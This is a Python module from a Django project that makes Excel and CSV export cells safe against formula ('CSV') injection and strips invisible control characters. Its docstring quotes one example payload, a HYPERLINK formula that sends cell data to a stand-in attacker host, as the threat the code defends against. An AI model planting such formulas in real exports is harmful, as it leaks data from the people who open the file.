"""Cells for Excel and CSV exports: never run as formulas, never able to break the file.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some programs strip before looking) is taken for a formula by Excel and LibreOffice, so a
community name like ``=HYPERLINK("http://evil.example/?"&A1)`` in an export would run
when a clerk opens the file (OWASP "CSV injection"). Every cell of every export goes
through :func:`safe_cell` (``kyodo.downloads`` does it for its responses), which prefixes
such text with an apostrophe: the program then shows it as text, and the apostrophe itself
is not displayed in Excel.

Text is also cleaned first: C0 control characters other than tab, line feed and carriage
return (openpyxl refuses them with IllegalCharacterError, which turned one bad title into a
failed export), DEL and C1 controls, lone surrogates and U+FFFE/U+FFFF (not encodable), and
the invisible bidi-override and zero-width characters (U+200B–U+200F, U+202A–U+202E,
U+2066–U+2069, U+FEFF) that can make a cell read differently from what it holds. Tab and
line breaks stay: both formats keep them inside a cell.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TypeVar

from django.utils.functional import Promise

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
UNSAFE_CHARACTERS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f"  # control characters, except tab, LF and CR
    "\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff"  # zero-width and bidi controls
    "\ud800-\udfff\ufffe\uffff]"  # not characters at all
)

Cell = TypeVar("Cell")


def clean_text(text: str) -> str:
    """``text`` without control, bidi-override and zero-width characters (tab and line breaks kept)."""
    return UNSAFE_CHARACTERS.sub("", text)


def safe_cell(value: Cell) -> Cell | str:
    """``value`` as it may go into a cell: text cleaned, and an apostrophe before a formula trigger.

    Numbers, dates, booleans and None are returned unchanged (a negative number is a number,
    not a formula); a lazy translation becomes its text.
    """
    if isinstance(value, Promise):
        value = str(value)  # type: ignore[assignment]
    if not isinstance(value, str):
        return value
    text = clean_text(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
